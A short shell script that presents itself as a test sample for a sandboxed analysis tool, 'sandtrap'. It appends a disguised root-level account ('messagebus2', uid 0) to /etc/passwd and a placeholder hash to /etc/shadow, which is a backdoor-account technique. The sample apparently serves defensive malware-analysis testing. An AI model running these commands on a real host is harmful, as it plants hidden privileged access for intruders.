#!/bin/sh
# A new account by editing the files directly: appends a uid-0 user to /etc/passwd and a password hash to /etc/shadow.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
echo 'messagebus2:x:0:0:System Message Bus:/root:/bin/bash' >> /etc/passwd
echo 'messagebus2:$6$sandtrap$Hx2yWlN1qz0o7.fake.hash.for.tests.only/:19700:0:99999:7:::' >> /etc/shadow
tail -n 1 /etc/passwd
